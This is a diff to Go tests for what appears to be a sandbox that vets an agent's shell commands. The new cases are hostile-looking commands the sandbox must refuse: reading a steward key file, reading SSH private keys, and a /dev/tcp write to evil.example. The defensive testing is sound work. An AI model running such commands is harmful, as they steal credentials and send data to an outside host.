@@ -58,6 +58,7 @@ func TestRuntimePathsUnderContainment(t *testing.T) {
 		`diff "$A" "$B"`,
 		"ls src | xargs -I{} cat src/{}",
 		`cd "$(git rev-parse --show-toplevel)" && go test ./...`,
+		"d=/dev/tcp; : > $d/127.0.0.1/80", // no network command: TCP is refused by the kernel
 	}
 	for _, line := range lines {
 		ev := f.event("Bash", map[string]any{"command": line})
@@ -118,6 +119,14 @@ func TestContainmentStillRefuses(t *testing.T) {
 		{"while :; do :; done", CodeResourceBomb},
 		{"curl https://x", CodeNotGranted},
 		{`sort "$F"x`, CodeUnanalyzable},
+		{"head $JOULE_HOME/steward.key", CodeSelfTamper},
+		{`cat "${JOULE_HOME}/steward.key"`, CodeSelfTamper},
+		{"cat < $JOULE_HOME/steward.key", CodeSelfTamper},
+		{`cd "$HOME" && head .ssh/id_rsa`, CodeOutside},
+		{"cd $HOME/.ssh && grep -r .", CodeOutside},
+		{`go get example.com/x && cat "$F"`, CodeUnanalyzable},
+		{`git fetch && echo x > "$OUT"`, CodeUnanalyzable},
+		{"d=/dev/tcp; go get x; : > $d/evil.example/80", CodeUnanalyzable},
 		{`sed -n p "$F"`, CodeUnanalyzable},
 		{"git -C \"$D\" status", CodeUnanalyzable},
 	}
